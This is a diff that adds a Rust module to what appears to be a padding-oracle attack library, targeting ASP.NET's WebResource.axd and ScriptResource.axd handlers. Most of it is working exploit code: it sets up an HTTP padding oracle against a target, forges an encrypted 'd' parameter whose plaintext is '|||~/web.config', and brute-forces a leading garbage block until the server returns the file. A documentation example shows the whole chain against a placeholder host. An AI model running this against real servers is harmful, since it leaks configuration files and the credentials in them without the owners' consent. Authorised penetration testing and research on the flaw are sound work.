@@ -0,0 +1,153 @@
+//! Helpers for the classic ASP.NET padding oracles, `WebResource.axd` and `ScriptResource.axd`.
+//!
+//! Both handlers take an encrypted `d` parameter, without IV, in the URL token encoding of
+//! `HttpServerUtility.UrlTokenEncode`, and answer padding errors with a 500. Recovering the
+//! plaintext takes the block before each attacked block, so the first one is lost, but forging
+//! works: `ScriptResource.axd` sends back any file of the application for a parameter decrypting
+//! to `[garbage]|||~/web.config`, see [file_download_payload] and [find_garbage_block].
+//!
+//! # Example
+//! ```no_run
+//! # #[cfg(feature = "http")]
+//! # fn main() -> Result<(), padding_oracle::Error> {
+//! use padding_oracle::aspnet;
+//!
+//! let oracle = aspnet::script_resource_oracle("http://target.local")?;
+//!
+//! // The forged IV is sent as a block of garbage
+//! let payload = aspnet::file_download_payload("~/web.config");
+//! let forged = padding_oracle::encrypt(&payload, 16, oracle.clone())?;
+//!
+//! // ScriptResource.axd only serves files when that garbage starts the right way
+//! let found = aspnet::find_garbage_block(&forged, 16, |token: &[u8]| {
+//!     oracle.send(token).is_ok_and(|response| response.status == 200)
+//! }, 100_000, 42)?;
+//!
+//! if let Some(token) = found {
+//!     println!("{}/ScriptResource.axd?d={}", "http://target.local", aspnet::url_token_encode(&token));
+//! }
+//! # Ok(())
+//! # }
+//! # #[cfg(not(feature = "http"))]
+//! # fn main() {}
+//! ```
+
+use alloc::string::String;
+use alloc::vec::Vec;
+
+use crate::oracle::answer;
+use crate::rng::SplitMix64;
+use crate::{base64, PaddingOracle, Result};
+
+/// Encode bytes like `HttpServerUtility.UrlTokenEncode`: URL safe base64, with the number of
+/// padding characters as a trailing digit instead of the padding itself.
+///
+/// # Example
+/// ```
+/// use padding_oracle::aspnet::url_token_encode;
+///
+/// assert_eq!(url_token_encode(b"\xfb\xff"), "-_81");
+/// assert_eq!(url_token_encode(b"abc"), "YWJj0");
+/// ```
+pub fn url_token_encode(bytes: &[u8]) -> String {
+    if bytes.is_empty() {
+        return String::new();
+    }
+
+    let mut encoded = base64::encode(bytes, base64::URL_SAFE, false);
+    let padding = (4 - encoded.len() % 4) % 4;
+    encoded.push(char::from(b'0' + padding as u8));
+    encoded
+}
+
+/// Decode a URL token, such as the `d` parameter of `WebResource.axd`, or `None` if it is not
+/// valid.
+///
+/// # Example
+/// ```
+/// use padding_oracle::aspnet::url_token_decode;
+///
+/// assert_eq!(url_token_decode("-_81"), Some(b"\xfb\xff".to_vec()));
+/// assert_eq!(url_token_decode("-_8"), None);
+/// ```
+pub fn url_token_decode(token: &str) -> Option<Vec<u8>> {
+    if token.is_empty() {
+        return Some(Vec::new());
+    }
+
+    let (encoded, padding) = token.split_at_checked(token.len() - 1)?;
+    let padding = match padding {
+        "0" => 0,
+        "1" => 1,
+        "2" => 2,
+        _ => return None,
+    };
+
+    if !(encoded.len() + padding).is_multiple_of(4) {
+        return None;
+    }
+
+    base64::decode(encoded, base64::URL_SAFE)
+}
+
+/// The plaintext making `ScriptResource.axd` send back the file at `path`, such as
+/// `~/web.config`, once it follows a block of garbage.
+pub fn file_download_payload(path: &str) -> Vec<u8> {
+    [&b"|||"[..], path.as_bytes()].concat()
+}
+
+/// Prepend random blocks to `token` until `oracle` accepts one, and return it, or `None` after
+/// `attempts` tries.
+///
+/// `ScriptResource.axd` only serves a file when the garbage its parameter starts with decrypts to
+/// the right kind of request, which takes a few thousand tries on average: make the oracle
+/// report whether the file came back, rather than whether the padding was valid. The blocks are
+/// drawn from `seed`, so runs are reproducible.
+pub fn find_garbage_block(
+    token: &[u8],
+    blocksize: usize,
+    mut oracle: impl PaddingOracle,
+    attempts: usize,
+    seed: u64,
+) -> Result<Option<Vec<u8>>> {
+    let mut rng = SplitMix64::new(seed);
+    let mut probe = alloc::vec![0; blocksize];
+    probe.extend_from_slice(token);
+
+    for _ in 0..attempts {
+        for chunk in probe[..blocksize].chunks_mut(8) {
+            chunk.copy_from_slice(&rng.next_u64().to_le_bytes()[..chunk.len()]);
+        }
+
+        if answer(oracle.query(&probe))? {
+            return Ok(Some(probe));
+        }
+    }
+
+    Ok(None)
+}
+
+/// The padding oracle of `WebResource.axd`, at the root of `base_url`.
+#[cfg(feature = "http")]
+pub fn web_resource_oracle(base_url: &str) -> Result<crate::http::HttpOracle> {
+    handler_oracle(base_url, "WebResource.axd")
+}
+
+/// The padding oracle of `ScriptResource.axd`, at the root of `base_url`.
+#[cfg(feature = "http")]
+pub fn script_resource_oracle(base_url: &str) -> Result<crate::http::HttpOracle> {
+    handler_oracle(base_url, "ScriptResource.axd")
+}
+
+#[cfg(feature = "http")]
+fn handler_oracle(base_url: &str, handler: &str) -> Result<crate::http::HttpOracle> {
+    use crate::http::{Encoding, HttpOracle, Request, Rule, PLACEHOLDER};
+
+    let url = alloc::format!(
+        "{}/{handler}?d={PLACEHOLDER}",
+        base_url.trim_end_matches('/')
+    );
+    let rule = Rule::Not(alloc::boxed::Box::new(Rule::Status(500)));
+
+    HttpOracle::new(Request::get(url), Encoding::UrlToken, rule)
+}